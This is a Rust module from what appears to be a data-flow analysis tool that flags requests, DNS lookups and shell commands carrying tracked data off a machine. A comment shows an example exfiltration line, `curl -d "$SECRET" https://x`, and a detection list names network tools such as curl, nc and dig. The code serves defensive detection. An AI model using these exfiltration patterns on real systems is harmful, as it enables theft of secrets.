//! What leaves the machine: the arguments of requests that carry data, and what of them
//! came from a source that is followed.

use super::context::Context;
use crate::event::{Effect, Event, Role, Source};
use crate::value::{Origin, Shape, Value};

/// Every event that sends something of this source, with what it sends.
pub(crate) fn by_source<'a>(
    context: &Context<'a>,
    source: Source,
) -> impl Iterator<Item = (&'a Event, Vec<&'a Origin>)> {
    let effects =
        &[Effect::Request, Effect::Connect, Effect::NameLookup, Effect::Shell, Effect::Spawn];
    context.of(effects).filter_map(move |event| {
        // A socket with a path leads to another program on the same machine.
        if event.effect == Effect::Connect && event.argument(Role::Path).is_some() {
            return None;
        }
        let mut origins: Vec<&Origin> = Vec::new();
        let mut keep = |origin: &'a Origin| {
            if !origins.contains(&origin) {
                origins.push(origin);
            }
        };
        if matches!(event.effect, Effect::Shell | Effect::Spawn) {
            // `curl -d "$SECRET" https://x` is a request in other clothes.
            if sends(event) {
                event.origins(&[Role::Command, Role::CommandArgument], source).for_each(&mut keep);
            }
        } else {
            event.origins(&[Role::Data], source).for_each(&mut keep);
            for role in [Role::Url, Role::Host] {
                for value in event.arguments_of(role).filter(|value| carries_data(value, role)) {
                    value.origins.iter().filter(|o| o.source == source).for_each(&mut keep);
                }
            }
        }
        (!origins.is_empty()).then_some((event, origins))
    })
}

/// Whether what is unknown in an address is behind its host (`https://x/?d=` and
/// something) or in front of it (something and `.x.example`): then it is a message, and
/// not the setting that says whom to ask.
fn carries_data(value: &Value, role: Role) -> bool {
    let Shape::Partial { prefix, rest } = &value.shape else { return false };
    let after = prefix.split_once("://").map_or("", |(_, after)| after);
    let behind_host = after.contains(['/', '?']);
    let below_host = rest.iter().any(|piece| piece.starts_with('.') && piece.len() > 3);
    behind_host && role == Role::Url || below_host
}

fn sends(event: &Event) -> bool {
    super::command::commands(event).iter().any(|command| {
        matches!(
            command.program().as_str(),
            "curl" | "wget" | "nc" | "ncat" | "scp" | "ftp" | "nslookup" | "dig"
        )
    })
}
